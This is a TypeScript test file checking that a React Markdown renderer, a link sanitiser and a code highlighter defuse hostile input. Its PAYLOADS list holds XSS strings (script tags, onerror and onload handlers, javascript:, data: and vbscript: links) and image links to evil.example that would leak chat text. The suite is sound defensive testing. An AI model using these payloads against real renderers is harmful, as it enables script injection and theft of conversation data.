import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { highlight } from './highlight';
import { Markdown } from './markdown';
import { safeLink } from './safe-link';

const render = (text: string) => renderToStaticMarkup(<Markdown text={text} settled />);

/** Every tag of some markup with its attributes; escaped tags do not count. */
const tags = (markup: string) =>
  [...markup.matchAll(/<([a-z][\w-]*)([^>]*)>/gi)].map(([, name, rest]) => ({ name, rest }));

const ELEMENTS = new Set(
  'div,p,h2,h3,h4,h5,h6,ul,ol,li,blockquote,hr,pre,code,span,button,svg,path,rect,section,table,thead,tbody,tr,th,td,strong,em,del,br,a'.split(
    ',',
  ),
);

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<style>body{display:none}</style>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#x73;cript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/a)',
  '[x](/dashboard)',
  '![secret](https://evil.example/leak?q=chat)',
  '![x][leak]\n\n[leak]: https://evil.example/leak?q=chat',
  '[![x](https://evil.example/i.png)](javascript:alert(1))',
  '<javascript:alert(1)>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '```html\n<script>alert(1)</script>\n```',
  '```"onmouseover=alert(1)\nx\n```',
  '[x](https://ok.example "onmouseover=alert(1)")',
  '[x](https://ok.example/"onmouseover="alert(1))',
];
const FRAMES = [
  (payload: string) => payload,
  (payload: string) => `text ${payload} text`,
  (payload: string) => `> ${payload}`,
  (payload: string) => `- a\n- ${payload}\n  1. ${payload}`,
  (payload: string) => `# ${payload}`,
  (payload: string) => `| a | b |\n|---|---|\n| ${payload.replaceAll('\n', ' ')} | 1 |`,
  (payload: string) => `**${payload}** ~~${payload}~~ *${payload}*`,
  (payload: string) => `[${payload}](https://ok.example)`,
  (payload: string) => `<div>\n${payload}\n</div>`,
];

describe('Markdown of hostile texts', () => {
  const cases = PAYLOADS.flatMap((payload) => FRAMES.map((frame) => frame(payload)));

  it.each(cases)('is harmless: %j', (text) => {
    for (let end = Math.max(0, text.length - 3); end <= text.length; end += 1) {
      for (const { name, rest } of tags(render(text.slice(0, end)))) {
        expect(ELEMENTS).toContain(name);
        expect(rest).not.toMatch(/\s(on\w+|src|srcset|style|srcdoc|formaction)=/i);
        const href = /\shref="([^"]*)"/.exec(rest ?? '')?.[1];
        if (href !== undefined) expect(href).toMatch(/^(https?:\/\/|mailto:)/);
        if (name === 'a') expect(rest).toContain('rel="noopener nofollow noreferrer"');
      }
    }
  });

  it('shows tables that are far larger than their text as code', () => {
    const wide = (rows: number) => `${'|a'.repeat(300)}\n${'|-'.repeat(300)}\n${'|\n'.repeat(rows)}`;
    expect(tags(render(wide(10))).filter(({ name }) => name === 'td')).toHaveLength(3_000);
    const names = tags(render(`Before.\n\n> - ${wide(380).replaceAll('\n', '\n>   ')}`)).map(({ name }) => name);
    expect(names.filter((name) => name === 'td')).toHaveLength(0);
    expect(names).toContain('pre');
    expect(render(`~~~~\n~~~${wide(380)}\n~~~~`)).toBe(render(`~~~${wide(380)}`));
    const many = `${wide(6)}\n`.repeat(3);
    expect(tags(render(many)).filter(({ name }) => name === 'td')).toHaveLength(0);
    const legitimate = `|a|b|c|\n|:-|-:|:-:|\n${'|1|2|3|\n'.repeat(1_000)}`;
    expect(tags(render(legitimate)).filter(({ name }) => name === 'td')).toHaveLength(3_000);
  });

  it('survives nesting that exhausts a parser', () => {
    for (const piece of ['> ', '- ', '[', '**a', '<b>', '*a_', '![', '`']) {
      expect(render(piece.repeat(3_000)).length).toBeGreaterThan(0);
    }
  });
});

describe('Markdown', () => {
  it('renders what answers are made of', () => {
    expect(render('# Title\n\nOne **two** _three_ `four`\nfive')).toBe(
      '<div class="markdown"><h2>Title</h2><p>One <strong>two</strong> <em>three</em> <code>four</code><br/>five</p></div>',
    );
    expect(render('3. a\n4. b')).toContain('<ol start="3"><li>a</li><li>b</li></ol>');
    expect(render('| a | b |\n|---|--:|\n| 1 | 2 |')).toContain('<td class="text-right">2</td>');
    expect(render('- [x] done')).toContain('☑ done');
  });

  it('renders a list in a quotation in a list, with a line that follows', () => {
    expect(render('- Goods:\n  > 2. Lamps\n  and more')).toContain(
      '<blockquote><ol start="2"><li>Lamps<br/>and more</li></ol></blockquote>',
    );
  });

  it('links to web and mail addresses in a new tab', () => {
    expect(render('See https://ok.example/a and [mail](mailto:a@b.example)')).toContain(
      '<a href="https://ok.example/a" target="_blank" rel="noopener nofollow noreferrer"',
    );
    expect(render('[mail](mailto:a@b.example?body=secret)')).toContain('href="mailto:a@b.example"');
    expect(render('[x](/dashboard)')).toBe('<div class="markdown"><p>x</p></div>');
  });

  it('links phone numbers in words, and neither in code, nor in another link, nor while it is being written', () => {
    const number = '<a href="tel:+351215550199" target="_blank" rel="noopener nofollow noreferrer"';
    expect(render('Call **+351 21 555 01 99**.')).toContain(`<strong>${number}`);
    expect(render('- Phone: +351 21 555 01 99')).toContain('>+351 21 555 01 99</a></li>');
    expect(render('`+351 21 555 01 99`')).not.toContain('<a');
    expect(render('```\n+351 21 555 01 99\n```')).not.toContain('<a');
    const linked = render('[call +351 21 555 01 99](https://ok.example)');
    expect(tags(linked).filter(({ name }) => name === 'a')).toHaveLength(1);
    expect(linked).toContain('href="https://ok.example/"');
    // Only links whose text says where they lead.
    expect(render('[call us](tel:+351215550199)')).not.toContain('<a');
    const writing = renderToStaticMarkup(<Markdown text="Call +351 21 555 01 99" settled={false} />);
    expect(writing).not.toContain('<a');
  });

  it('keeps dates and ranges on one line', () => {
    const kept = (text: string) => `<span class="whitespace-nowrap">${text}</span>`;
    expect(render('From 2027-03-01, 9am-5pm, for £12-£15 a well-kept bike')).toBe(
      `<div class="markdown"><p>From ${kept('2027-03-01,')} ${kept('9am-5pm,')} for ${kept('£12-£15')} a well-kept bike</p></div>`,
    );
    expect(render(`${'1-2-'.repeat(20)}3`)).not.toContain('nowrap');
  });

  it('cannot be followed anywhere while it is being written', () => {
    const writing = renderToStaticMarkup(<Markdown text="See https://evil.example/a" settled={false} />);
    expect(writing).not.toContain('<a');
    expect(writing).toContain('https://evil.example/a');
  });

  it('cannot be followed anywhere where it was stopped before the server has looked through it', () => {
    const stopped = renderToStaticMarkup(<Markdown text="See https://evil.example/a" settled checked={false} />);
    expect(stopped).toBe(
      '<div class="markdown"><p>See <span class="link wrap-anywhere">https://evil.example/a</span></p></div>',
    );
  });

  it('shows the description of an image and never its address', () => {
    expect(render('![A map](https://evil.example/leak?q=1)')).toBe('<div class="markdown"><p>A map</p></div>');
  });

  it('writes characters for their references, once', () => {
    expect(render('Fish &amp; chips &#8364; 5 &amp;lt;')).toContain('Fish &amp; chips € 5 &amp;lt;');
    expect(render('Write &toString;')).toContain('Write &amp;toString;');
  });
});

describe('safeLink', () => {
  it.each(['javascript:alert(1)', ' java\nscript:alert(1)', 'data:text/html,x', 'blob:https://a/b', 'x', '', '#a'])(
    'refuses %j',
    (href) => expect(safeLink(href)).toBeNull(),
  );
});

describe('highlight', () => {
  it('colours known languages without ever making markup of the code', () => {
    const markup = renderToStaticMarkup(highlight('const a = "<img src=x>"; // <b>', 'js'));
    expect(markup).toContain('<span class="hl-keyword">const</span>');
    expect(tags(markup).every(({ name }) => name === 'span')).toBe(true);
    expect(markup.replace(/<[^>]*>/g, '')).toBe('const a = &quot;&lt;img src=x&gt;&quot;; // &lt;b&gt;');
  });

  it('leaves unknown languages as they are', () => {
    expect(highlight('x', 'brainfuck')).toBe('x');
  });
});
